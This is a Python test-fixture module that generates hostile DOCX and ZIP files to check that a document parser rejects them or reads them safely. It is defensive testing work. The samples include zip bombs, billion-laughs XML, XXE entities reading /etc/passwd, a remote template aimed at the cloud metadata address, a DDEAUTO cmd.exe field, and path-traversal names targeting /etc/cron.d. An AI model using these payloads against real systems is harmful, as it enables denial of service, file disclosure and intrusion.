"""DOCX and other ZIP files."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping

from hostile_files.case import CV_LINES, READ, Case, case

NAME = CV_LINES[0]
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
UNSAFE, BROKEN, NO, LONG = (
    "document_unsafe",
    "document_corrupt",
    "document_unsupported",
    "document_too_long",
)


def containers() -> list[Case]:
    return [*_broken(), *_bombs(), *_xml(), *_parts(), *_others()]


def body(xml: str, *, head: str = '<?xml version="1.0" encoding="UTF-8"?>') -> bytes:
    """A document part with this inside its body."""
    return f"{head}<w:document {W}><w:body>{xml}</w:body></w:document>".encode()


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


CV_XML = "".join(paragraph(line) for line in CV_LINES)


def word(document: bytes, more: Mapping[str, bytes] | None = None) -> bytes:
    """A DOCX with this document part, and other parts."""
    return zipped({"word/document.xml": document, **(more or {})})


def zipped(parts: Mapping[str, bytes]) -> bytes:
    """A ZIP file; without the time of day, so that it is the same each time."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return written.getvalue()


def _broken() -> list[Case]:
    whole = word(body(CV_XML))
    flipped = bytearray(whole)
    for at in range(200, len(flipped), 97):
        flipped[at] ^= 0x55
    locked = bytearray(word(body(CV_XML)))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(signature) + offset] |= 1
    return [
        *(case(f"cut-{p}.docx", whole[: len(whole) * p // 100], BROKEN) for p in (10, 50, 90)),
        case("flipped.docx", bytes(flipped), BROKEN, UNSAFE, NO),
        case("header-only.docx", b"PK\x03\x04", BROKEN),
        case("locked-entry.docx", bytes(locked), BROKEN, "document_encrypted"),
        case("not-xml.docx", word(b"Ines Calloway"), BROKEN),
        case("empty-part.docx", word(b""), BROKEN, "document_without_text"),
        case("no-text.docx", word(body("<w:p/>")), "document_without_text"),
        case("twice.docx", _twice(), READ, BROKEN, UNSAFE),
        case("docx-as.pdf", whole, READ, holds=NAME),
        case("junk-before.docx", b"junk" * 50 + whole, READ, NO, BROKEN),
    ]


def _twice() -> bytes:
    """Two document parts of one name: programs disagree on which counts."""
    two = {"word/document.xml": body(CV_XML), "word/document.xml ": body(paragraph("Another"))}
    return zipped(two).replace(b"word/document.xml ", b"word/document.xml\0")


def _bombs() -> list[Case]:
    lying = bytearray(word(body(CV_XML)))
    at = lying.index(b"PK\x01\x02")
    lying[at + 24 : at + 28] = struct.pack("<I", 3_000_000_000)

    def many() -> bytes:
        return word(body(CV_XML), {f"word/{number}.xml": b"a" for number in range(5000)})

    def inner() -> bytes:
        return word(body(CV_XML), {"word/more.zip": word(bytes(40 << 20))})

    return [
        case("bomb.docx", lambda: word(body(paragraph("a" * (200 << 20)))), UNSAFE),
        case("bomb-of-space.docx", lambda: word(body(" " * (50 << 20) + CV_XML)), UNSAFE),
        case("bomb-in-bomb.docx", inner, READ, UNSAFE),
        case("claims-3-gigabytes.docx", bytes(lying), UNSAFE, BROKEN),
        case("5000-entries.docx", many, UNSAFE),
        case("overlapping.docx", _overlapping, UNSAFE, BROKEN),
        case("million-cells.docx", lambda: word(_table(1000, 1000)), LONG, UNSAFE, READ),
        case("million-runs.docx", lambda: word(body("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 700_000
             + "</w:p>")), LONG, UNSAFE, READ),
    ]  # fmt: skip


def _overlapping() -> bytes:
    """Many directory entries that all point at one big block (after Fifield, 2019)."""
    kernel = word(body(paragraph("a" * (4 << 20))))
    directory = kernel[kernel.index(b"PK\x01\x02") : kernel.rindex(b"PK\x05\x06")]
    data = kernel[: kernel.index(b"PK\x01\x02")]
    count = 200
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory) * count, len(data), 0
    )
    return data + directory * count + end


def _table(rows: int, columns: int) -> bytes:
    row = "<w:tr>" + "<w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>" * columns + "</w:tr>"
    return body(f"<w:tbl>{row * rows}</w:tbl>")


def _xml() -> list[Case]:
    def declared(doctype: str, use: str) -> bytes:
        return word(body(paragraph(use) + CV_XML, head=f'<?xml version="1.0"?>{doctype}'))

    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
    )
    utf16 = body(paragraph("&x;") + CV_XML, head="").decode()
    hidden = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "y">]>{utf16}'
    return [
        case("xxe.docx", declared('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
             UNSAFE),
        case("xxe-parameter.docx",
             declared('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://example.com/x.dtd">%p;]>', "a"),
             UNSAFE),
        case("dtd.docx", declared('<!DOCTYPE a SYSTEM "http://example.com/a.dtd">', "a"), UNSAFE),
        case("laughs.docx", declared(f"<!DOCTYPE a [{laughs}]>", "&l9;"), UNSAFE),
        case("quadratic.docx",
             declared(f'<!DOCTYPE a [<!ENTITY x "{"a" * 50_000}">]>', "&x;" * 20_000), UNSAFE),
        case("utf16-entity.docx", word(hidden.encode("utf-16")), UNSAFE, BROKEN),
        case("utf7.docx", word(b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-'), BROKEN, UNSAFE),
        case("deep.docx", word(body("<w:sdt><w:sdtContent>" * 50_000 + CV_XML)), BROKEN, UNSAFE),
        case("deep-tables.docx", word(body("<w:tbl><w:tr><w:tc>" * 20_000 + CV_XML
             + "</w:tc></w:tr></w:tbl>" * 20_000)), BROKEN, UNSAFE, READ, LONG),
        case("wrong-namespace.docx", word(body(CV_XML).replace(b"wordprocessingml", b"nonsense")),
             READ, BROKEN, "document_without_text"),
    ]  # fmt: skip


def _parts() -> list[Case]:
    external = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://169.254.169.254/evil.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    alt = (
        '<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        'r:id="r9"/>'
    )
    dde = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/></w:p>'
    names = {"../../../../etc/cron.d/x": b"* * * * * root", "/absolute": b"x", "C:\\x": b"x"}
    shadow = body("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r></w:p>" + CV_XML)
    return [
        case("macro.docx", word(body(CV_XML), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99}),
             READ, UNSAFE, holds=NAME),
        case("macro.docm", word(body(CV_XML), {"word/vbaProject.bin": b"x" * 99}), READ, UNSAFE,
             holds=NAME),
        case("ole-object.docx", word(body(CV_XML), {"word/embeddings/o.bin": bytes(9999)}), READ,
             holds=NAME),
        case("remote-template.docx",
             word(body(CV_XML), {"word/_rels/document.xml.rels": external}), READ, holds=NAME),
        case("alt-chunk.docx", word(body(alt + CV_XML), {"word/c.html": b"<p>secret</p>"}), READ,
             holds=NAME, lacks="secret"),
        case("dde.docx", word(body(dde + CV_XML)), READ, holds=NAME, lacks="cmd.exe"),
        case("traversal.docx", word(body(CV_XML), names), READ, UNSAFE, holds=NAME),
        case("hidden-run.docx", word(shadow), READ, holds=NAME, lacks="secret"),
        case("huge-attribute.docx",
             lambda: word(body(f'<w:p w:rsidR="{"a" * 9_000_000}"/>{CV_XML}')), READ, BROKEN, UNSAFE),
    ]  # fmt: skip


def _others() -> list[Case]:
    return [
        case("sheet.xlsx", zipped({"xl/workbook.xml": b"<a/>"}), NO, says="spreadsheet"),
        case("slides.pptx", zipped({"ppt/presentation.xml": b"<a/>"}), NO, says="presentation"),
        case("text.odt", zipped({"content.xml": b"<a/>"}), NO, says="OpenDocument"),
        case("photos.zip", zipped({"a": b"x", "b": b"y"}), NO),
        case("zip-as.pdf", zipped({"a": b"x"}), NO),
    ]
